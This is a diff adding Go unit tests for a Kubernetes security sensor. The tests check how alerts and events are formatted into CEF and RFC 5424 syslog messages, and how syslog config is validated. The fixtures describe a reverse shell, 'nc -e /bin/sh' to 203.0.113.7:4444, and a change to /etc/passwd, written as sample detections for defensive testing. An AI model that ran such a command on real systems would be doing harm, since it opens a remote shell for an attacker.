@@ -0,0 +1,85 @@
+package controller
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/invisible-tech/autopilot-security-sensor/internal/config"
+	"github.com/invisible-tech/autopilot-security-sensor/internal/types"
+	"github.com/invisible-tech/autopilot-security-sensor/internal/version"
+	"github.com/invisible-tech/autopilot-security-sensor/pkg/syslog"
+)
+
+func TestAlertSyslog(t *testing.T) {
+	a := &types.Alert{
+		ID: "alert-1", Timestamp: time.UnixMilli(1700000000123), Severity: "CRITICAL", RuleID: "APSS-001",
+		RuleName: "Reverse Shell", Description: "nc -e /bin/sh to 203.0.113.7", PodName: "api-0", PodNS: "payments",
+		MitreTactic: "Execution", MitreID: "T1059", Status: types.AlertStatusOpen,
+	}
+
+	c := &Controller{cfg: config.ControllerConfig{SyslogFormat: syslog.FormatCEF}}
+	m := c.alertSyslog(a)
+	want := "CEF:0|Invisible Technologies|APSS|" + version.Version + "|APSS-001|Reverse Shell|10|" +
+		`rt=1700000000123 externalId=alert-1 cat=alert msg=nc -e /bin/sh to 203.0.113.7 ` +
+		`cs1Label=namespace cs1=payments cs2Label=pod cs2=api-0 cs3Label=mitreTactic cs3=Execution ` +
+		`cs4Label=mitreTechnique cs4=T1059 cs5Label=status cs5=open`
+	if m.Msg != want || m.Severity != syslog.SeverityCritical || m.MsgID != "alert" || m.StructuredData != nil {
+		t.Errorf("CEF message = %+v\nwant msg %s", m, want)
+	}
+
+	c.cfg = config.ControllerConfig{SyslogFormat: syslog.FormatRFC5424, SyslogSDID: "apss@32473"}
+	m = c.alertSyslog(a)
+	if len(m.StructuredData) != 1 || m.StructuredData[0].ID != "apss@32473" || !strings.HasPrefix(m.Msg, `{"id":"alert-1"`) {
+		t.Fatalf("RFC 5424 message = %+v", m)
+	}
+	params := map[string]string{}
+	for _, p := range m.StructuredData[0].Params {
+		params[p.Name] = p.Value
+	}
+	if params["rule_id"] != "APSS-001" || params["mitre_id"] != "T1059" || params["namespace"] != "payments" {
+		t.Errorf("params = %v", params)
+	}
+	if _, ok := params["incident_id"]; ok {
+		t.Error("empty incident_id was not left out")
+	}
+}
+
+func TestEventSyslog(t *testing.T) {
+	occurred := time.UnixMilli(1700000000000)
+	ev := &types.SecurityEvent{
+		ID: "ev-1", AgentID: "agent-1", Type: "network_connect", Severity: "HIGH",
+		Timestamp: occurred.Add(time.Second), OccurredAt: &occurred, PodName: "api-0", PodNamespace: "payments",
+		Process: &types.ProcessEventData{PID: 42, Name: "nc", Cmdline: []string{"nc", "-e", "/bin/sh"}, ExePath: "/usr/bin/nc", ExeHash: "abc123"},
+		Network: &types.NetworkEventData{Protocol: "tcp", DstIP: "203.0.113.7", DstPort: 4444},
+		File:    &types.FileEventData{Path: "/etc/passwd", Operation: "modify"},
+	}
+	c := &Controller{cfg: config.ControllerConfig{SyslogFormat: syslog.FormatCEF}}
+	m := c.eventSyslog(ev)
+	if !m.Time.Equal(occurred) || m.Severity != syslog.SeverityError || m.MsgID != "event" {
+		t.Errorf("message = %+v", m)
+	}
+	for _, want := range []string{
+		"|network_connect|network_connect|8|", "rt=1700000000000 ", "dproc=nc dpid=42 sproc=/usr/bin/nc ",
+		"proto=TCP dst=203.0.113.7 dpt=4444 ", "filePath=/etc/passwd act=modify ", "cs3Label=agentId cs3=agent-1 ",
+		"cs4=nc -e /bin/sh ", "cs5Label=exeHash cs5=abc123",
+	} {
+		if !strings.Contains(m.Msg, want) {
+			t.Errorf("CEF message %s\nlacks %q", m.Msg, want)
+		}
+	}
+	if n := strings.Count(m.Msg, "filePath="); n != 1 {
+		t.Errorf("CEF message %s\nhas %d filePath fields", m.Msg, n)
+	}
+}
+
+func TestValidateConfig_Syslog(t *testing.T) {
+	cfg := config.ControllerConfig{SyslogAddress: "siem.example.com", SyslogProtocol: "tls", SyslogFormat: "leef"}
+	var got []string
+	for _, p := range ValidateConfig(cfg) {
+		got = append(got, p.String())
+	}
+	if len(got) != 2 || !strings.HasPrefix(got[0], "SYSLOG_FORMAT: unknown format") || !strings.HasPrefix(got[1], "SYSLOG_*: invalid syslog address") {
+		t.Errorf("problems = %q", got)
+	}
+}